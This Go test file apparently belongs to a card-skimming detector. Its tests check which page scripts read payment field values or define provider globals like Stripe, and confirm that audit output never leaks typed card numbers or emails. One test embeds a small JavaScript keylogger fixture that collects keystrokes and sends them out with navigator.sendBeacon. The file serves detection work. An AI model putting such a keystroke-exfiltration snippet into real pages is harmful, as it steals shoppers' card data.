package page

import (
	"crypto/rand"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/canary"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
)

func TestAReadOfTheLengthTakesNothing(t *testing.T) {
	t.Parallel()
	for code, want := range map[string]bool{
		"n = e.target.¦value.length":                    true,
		"if (cvc.¦value === '') return":                 true,
		"if (cvc.¦value !== \"\") go()":                 true,
		"n = (el.¦value || '').length":                  true,
		"n = el.¦value.trim().length":                   true,
		"seen.push(el.¦value.replace(/./g, '*'))":       true,
		"seen.push(el.¦value.replace(/\\S/gu, \"x\"))":  true,
		"seen.push(el.¦value)":                          false,
		"el.¦value.replace(/\\D/g, '')":                 false,
		"send(el.¦value, el.value.length)":              false,
		"if (el.¦value) send()":                         true,
		"if (!el.¦value && !name.value) return":         true,
		"if (send(el.¦value)) return":                   false,
		"go(ok && el.¦value)":                           false,
		"if (el.¦value + x) send()":                     false,
		"n = $(el).¦val().length":                       true,
		"n = $(el).¦val()":                              false,
		"el.¦value.replace(/./g, c => String(c ^ 5))":   false,
		"el.¦value.lengthy":                             false,
		"a.¦valueOf().length":                           false,
		"el.¦value.replace(/[0-9]/g, '*') + el.name":    false,
		"copy = el.¦value\n.length":                     true,
		"const {length} = el.¦value":                    false,
		"for (let i = 0; i < el.¦value.length; i++) {}": true,
	} {
		before, after, _ := strings.Cut(code, "¦")
		for kind, place := range map[string][2]int{"external": {2, len(before) + 1}, "inline": {9, len(before) + 1}} {
			s := browser.Script{ID: "7", Kind: kind, Source: "first();\n" + before + after, Line: 8, Column: 30}
			if kind == "external" {
				s.Line, s.Column = 1, 1
			}
			if got := peeks(s, []browser.Call{{ScriptID: "3"}, {ScriptID: "7", Line: place[0], Column: place[1]}}, "7"); got != want {
				t.Errorf("%s %q: %v", kind, code, got)
			}
		}
	}
	for _, place := range [][2]int{{0, 0}, {1, 99}, {99, 1}, {-3, -3}} {
		peeks(browser.Script{ID: "7", Kind: "inline", Line: 40, Column: 9, Source: "x"}, []browser.Call{{ScriptID: "7", Line: place[0], Column: place[1]}}, "7")
	}
}

func TestWhatAProviderPutsIntoThePage(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]bool{
		"window.Stripe=function(){}":              true,
		"!function(e){e.Stripe=t}(window)":        true,
		"self['Stripe'] = 1":                      true,
		"function Stripe(key) {}":                 true,
		"var Stripe = (function () {})()":         true,
		"if (window.Stripe == null) load()":       false,
		"new Stripe('pk')":                        false,
		"log('Stripe = 5')":                       false,
		"window.StripeCheckout = 1":               false,
		"const notStripe = 5; a.xStripe=3":        false,
		"if (x) { }\nStripe = function () { };\n": true,
	} {
		if got := makesGlobal(source, "Stripe"); got != want {
			t.Errorf("%q: %v", source, got)
		}
	}
	for source, want := range map[string]bool{
		"x = {createToken: function () {}}":  true,
		"x = {createToken(card) { return }}": true,
		"e.createToken=t":                    true,
		"e['createToken'](t)":                false,
		"x.createToken(card, done)":          false,
		"x.createToken === undefined":        false,
	} {
		if got := defines(source, "createToken"); got != want {
			t.Errorf("%q: %v", source, got)
		}
	}
	if defines("x = {onReady: null}", "onReady") {
		t.Error("what a shop is asked to put there is taken for the provider's")
	}
}

// A page may name its fields after what was typed.
func TestAuditsHoldNothingThatWasTyped(t *testing.T) {
	t.Parallel()
	card, mail := someSet.Card.Number, someSet.Person.Email
	v := aVisit(post("https://x.example/c", card, browser.Call{ScriptID: "7", URL: "https://x.example/a.js", Line: 1, Column: 1}))
	v.requests[0].Session = "s"
	in := []browser.Call{{ScriptID: "7", URL: "https://x.example/a.js", Line: 1, Column: 1}}
	v.scripts = []browser.Script{{ID: "7", Session: "s", URL: "https://x.example/a.js", Kind: "external", Source: "x()"}}
	for _, name := range []string{card, mail, "f-" + card[:4] + " " + card[4:8] + " " + card[8:]} {
		v.reads = append(v.reads, browser.Read{Session: "s", FrameURL: "https://shop.example/pay?" + card, Field: name, How: "value", Count: 1, Stack: in})
		v.audits.before.Fields = append(v.audits.before.Fields,
			browser.CardField{Kind: "number", Name: name, FrameURL: "https://shop.example/pay?" + card, Session: "s", Shown: true, Drawn: true, Made: in},
			browser.CardField{Kind: "number", Name: name, FrameURL: "https://pay.example/f/" + card, Session: "s2", Drawn: true})
		v.audits.natives.Globals = append(v.audits.natives.Globals, browser.Global{Name: name, Session: "s", Call: in[0]})
		v.audits.natives.Replaced = append(v.audits.natives.Replaced, browser.Replaced{Name: "FormData", Session: "s", Call: in[0], Source: card})
	}
	signs := slices.Concat(cardReaders(v, atShop), nativeHooks(v, atShop), fakeForms(v, atShop))
	if len(signs) < 3 {
		t.Errorf("only %d signs", len(signs))
	}
	for _, s := range signs {
		if text := fmt.Sprintf("%+v", s); strings.Contains(text, card) || strings.Contains(text, mail) || strings.Contains(text, card[4:8]+" ") {
			t.Error(text)
		}
	}
	for _, item := range v.cardItems("page https://shop.example/") {
		if strings.Contains(item.Place, card) {
			t.Error(item.Place)
		}
	}
}

// A widget that closes at a press of Escape hears every key, in card fields as well; a logger of keys hears the same.
func TestWhoHearsKeysWithoutTakingThem(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]bool{
		"document.addEventListener('keydown', function (e) { var k = e.key; if (k === 'Escape') box.hidden = true; }); fetch('https://chat.example/hello', {method: 'POST', body: JSON.stringify({page: location.pathname})})": false,
		"var b = ''; document.addEventListener('keydown', function (e) { b += e.key; if (b.length > 20) { navigator.sendBeacon('https://chat.example/hello', b); b = ''; } })":                                                 true,
	} {
		call := browser.Call{ScriptID: "4", Line: 1, Column: strings.Index(source, "e.key") + 3, URL: "https://chat.example/w.js"}
		v := &visit{
			set:     canary.Mint(rand.Reader, "ja", time.Now()),
			scripts: []browser.Script{{ID: "4", Session: "s", Kind: "external", URL: "https://chat.example/w.js", Source: source, SHA256: "4"}},
			reads:   []browser.Read{{Session: "s", How: "key", Field: "cardnumber", Stack: []browser.Call{call}}},
		}
		v.audits.after.Listeners = []browser.Listener{{On: "document", Type: "keydown", Session: "s", Call: call}}
		can := map[scriptKey][]tillwatch.Capability{{"s", "4"}: {tillwatch.Reads("card")}}
		v.audited(can, ourShop)
		if got := slices.Contains(can[scriptKey{"s", "4"}], tillwatch.Reads("card")); got != want {
			t.Errorf("%s: %v", source, got)
		}
	}
}
